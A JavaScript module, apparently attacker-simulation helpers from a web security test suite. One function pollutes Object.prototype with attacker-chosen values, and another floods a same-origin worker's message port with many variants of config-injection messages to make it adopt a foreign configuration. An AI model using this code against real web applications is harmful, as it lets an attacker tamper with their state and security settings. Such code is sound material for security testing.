/** Runs in the page: gives every object without an own value the attacker's one, for each name of `values`. */
export function pollute(evil, { values }) {
  for (const [name, value] of Object.entries(values)) {
    Object.defineProperty(Object.prototype, name, { value, writable: true, configurable: true, enumerable: false });
  }
}

/**
 * Runs in any document of the origin: connects to the holder, or takes the app's own worker, and asks it in many ways to
 * take another configuration. Resolves when the holder has seen them all.
 */
export async function configure(evil, { config }) {
  const port = await evil.connect();
  const last = 2_000_000;
  const seen = new Promise((resolve) => {
    evil.hear(port, ({ id }) => id === last && resolve());
  });
  port.start?.();
  const operations = ["configure", "config", "hold", "init", "start", "setup", "set", "hello", "signIn", "unlock", "allow"];
  let id = 1_000_000;
  for (const op of operations) {
    for (const body of [config, { config }, { options: config }, { options: { config } }, { data: config }]) {
      // Nothing here may bring a sign-in of the app's own.
      if (op !== "signIn" || body.options) port.postMessage({ v: 1, id: ++id, op, ...body });
    }
    port.postMessage([op, config]);
    port.postMessage({ type: op, payload: config, ...config });
  }
  port.postMessage({ v: 1, id: last, op: "stats" });
  await seen;
}
